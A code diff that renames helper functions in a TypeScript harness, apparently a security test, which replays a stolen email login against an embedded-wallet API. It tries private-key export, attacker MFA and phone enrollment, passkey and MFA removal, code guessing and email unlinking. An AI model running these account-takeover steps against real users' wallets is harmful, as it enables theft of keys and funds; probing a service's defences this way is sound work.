@@ -30,9 +30,9 @@ export interface Login {
   readonly token: string;
   readonly address: string;
   /** Asks as the service's own frame would. */
-  askAsFrame(path: string, body?: object): Promise<ThiefResponse>;
+  requestAsFrame(path: string, body?: object): Promise<ThiefResponse>;
   /** Asks as a page of the app's would. */
-  askAsPage(path: string, body?: object, method?: string): Promise<ThiefResponse>;
+  requestAsPage(path: string, body?: object, method?: string): Promise<ThiefResponse>;
 }
 
 const base64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
@@ -46,7 +46,7 @@ export async function breakIn(target: LoginThiefTarget): Promise<Login> {
   let token = '';
   let nonce = '';
 
-  async function ask(path: string, init: RequestInit): Promise<ThiefResponse> {
+  async function request(path: string, init: RequestInit): Promise<ThiefResponse> {
     const headers = { 'privy-app-id': appId, 'content-type': 'application/json', ...init.headers };
     const response = await target.send(new Request(url + path, { ...init, headers }));
     nonce = response.headers.get('dpop-nonce') ?? nonce;
@@ -54,8 +54,8 @@ export async function breakIn(target: LoginThiefTarget): Promise<Login> {
     return { status: response.status, code: json.code as string | undefined, json };
   }
 
-  const askAsPage: Login['askAsPage'] = (path, body = {}, method = 'POST') =>
-    ask(path, {
+  const requestAsPage: Login['requestAsPage'] = (path, body = {}, method = 'POST') =>
+    request(path, {
       method,
       headers: { origin, ...(token === '' ? {} : { authorization: `Bearer ${token}` }) },
       ...(method === 'GET' ? {} : { body: JSON.stringify(body) }),
@@ -78,10 +78,10 @@ export async function breakIn(target: LoginThiefTarget): Promise<Login> {
     return `${signed}.${base64url(signature)}`;
   }
 
-  const askAsFrame: Login['askAsFrame'] = async (path, body = {}) => {
+  const requestAsFrame: Login['requestAsFrame'] = async (path, body = {}) => {
     const text = JSON.stringify({ ...body, parent_origin: origin });
     const send = () =>
-      ask(path, {
+      request(path, {
         method: 'POST',
         body: text,
         headers: { origin: url, authorization: `DPoP ${token}`, dpop: prove(path, text) },
@@ -90,15 +90,15 @@ export async function breakIn(target: LoginThiefTarget): Promise<Login> {
     return first.code === 'use_dpop_nonce' ? send() : first;
   };
 
-  await askAsPage('/api/v1/passwordless/init', { email });
-  const { json } = await askAsPage('/api/v1/passwordless/authenticate', {
+  await requestAsPage('/api/v1/passwordless/init', { email });
+  const { json } = await requestAsPage('/api/v1/passwordless/authenticate', {
     email,
     code: await target.readCode(),
   });
   token = String(json.privy_access_token);
   const accounts = (json.user as { linked_accounts: { type: string; address?: string }[] }).linked_accounts;
   const address = accounts.find(({ type }) => type === 'wallet')?.address ?? '';
-  return { token, address, askAsFrame, askAsPage };
+  return { token, address, requestAsFrame, requestAsPage };
 }
 
 /** All that a login is tried for, by what it would give the thief. */
@@ -107,36 +107,38 @@ export async function tryStolenLogin(login: Login, email: string): Promise<Recor
   const number = '+12015550143';
   const guess = 'A'.repeat(43);
   return {
-    'the wallet': await login.askAsFrame('/api/v1/frame/wallets/recover', wallet),
-    'the key': await login.askAsFrame('/api/v1/frame/wallets/export', {
+    'the wallet': await login.requestAsFrame('/api/v1/frame/wallets/recover', wallet),
+    'the key': await login.requestAsFrame('/api/v1/frame/wallets/export', {
       ...wallet,
       address: login.address,
       what: 'key',
     }),
-    "the owner's cloud": await login.askAsFrame('/api/v1/frame/recovery/cloud', { method: 'icloud' }),
-    'an authenticator app of theirs': await login.askAsFrame('/api/v1/mfa/totp/init'),
-    'an authenticator app without beginning': await login.askAsFrame('/api/v1/mfa/totp/enroll', {
+    "the owner's cloud": await login.requestAsFrame('/api/v1/frame/recovery/cloud', { method: 'icloud' }),
+    'an authenticator app of theirs': await login.requestAsFrame('/api/v1/mfa/totp/init'),
+    'an authenticator app without beginning': await login.requestAsFrame('/api/v1/mfa/totp/enroll', {
       code: '123456',
     }),
-    'a number of theirs': await login.askAsFrame('/api/v1/mfa/passwordless_sms/init', {
+    'a number of theirs': await login.requestAsFrame('/api/v1/mfa/passwordless_sms/init', {
       action: 'enroll',
       phoneNumber: number,
     }),
-    'a number of theirs, from a page': await login.askAsPage('/api/v1/mfa/passwordless_sms/init', {
+    'a number of theirs, from a page': await login.requestAsPage('/api/v1/mfa/passwordless_sms/init', {
       action: 'enroll',
       phoneNumber: number,
     }),
-    'no authenticator app': await login.askAsFrame('/api/v1/mfa/totp/unenroll'),
-    'no passkeys': await login.askAsFrame('/api/v1/mfa/passkeys/enrollment', { credential_ids: [] }),
-    'backup codes of theirs': await login.askAsFrame('/api/v1/mfa/backup_codes/init'),
-    'a backup code by chance': await login.askAsFrame('/api/v1/mfa/backup_codes/verify', {
+    'no authenticator app': await login.requestAsFrame('/api/v1/mfa/totp/unenroll'),
+    'no passkeys': await login.requestAsFrame('/api/v1/mfa/passkeys/enrollment', { credential_ids: [] }),
+    'backup codes of theirs': await login.requestAsFrame('/api/v1/mfa/backup_codes/init'),
+    'a backup code by chance': await login.requestAsFrame('/api/v1/mfa/backup_codes/verify', {
       code: '0123-4567-89AB-CDEF',
     }),
-    'a recovery by chance': await login.askAsFrame('/api/v1/mfa/recovery/verify', {
+    'a recovery by chance': await login.requestAsFrame('/api/v1/mfa/recovery/verify', {
       ...wallet,
       proof: guess,
     }),
-    'the owner put out of the mail': await login.askAsPage('/api/v1/passwordless/unlink', { address: email }),
+    'the owner put out of the mail': await login.requestAsPage('/api/v1/passwordless/unlink', {
+      address: email,
+    }),
   };
 }
 
@@ -144,13 +146,13 @@ export async function tryStolenLogin(login: Login, email: string): Promise<Recor
 export async function tryToOpen(login: Login, email: string, readCode: LoginThiefTarget['readCode']) {
   const wallet = { entropy_id: login.address, entropy_id_verifier: 'ethereum-address-verifier' };
   const recover = (code?: string) =>
-    login.askAsFrame('/api/v1/frame/wallets/recover', { ...wallet, ...(code ? { code } : {}) });
+    login.requestAsFrame('/api/v1/frame/wallets/recover', { ...wallet, ...(code ? { code } : {}) });
   const atOnce = await recover();
   const { key } = atOnce.json.data as { key: string };
   const confirm = async (): Promise<ThiefResponse> => {
-    await login.askAsPage('/api/v1/passwordless/init', { email });
+    await login.requestAsPage('/api/v1/passwordless/init', { email });
     const proof = { method: 'email', email, code: await readCode() };
-    return login.askAsPage('/api/v1/sessions/reauthenticate', { ...proof, purpose: 'release', key });
+    return login.requestAsPage('/api/v1/sessions/reauthenticate', { ...proof, purpose: 'release', key });
   };
   const confirmed = await confirm();
   return {
@@ -158,9 +160,9 @@ export async function tryToOpen(login: Login, email: string, readCode: LoginThie
     confirmed,
     afterConfirming: await recover(),
     byCodeOfLogin: await recover(await readCode()),
-    bySent: await login.askAsFrame('/api/v1/frame/wallets/recover/code', wallet),
+    bySent: await login.requestAsFrame('/api/v1/frame/wallets/recover/code', wallet),
     byGuess: await recover('123456'),
-    exported: await login.askAsFrame('/api/v1/frame/wallets/export', {
+    exported: await login.requestAsFrame('/api/v1/frame/wallets/export', {
       ...wallet,
       address: login.address,
       what: 'key',
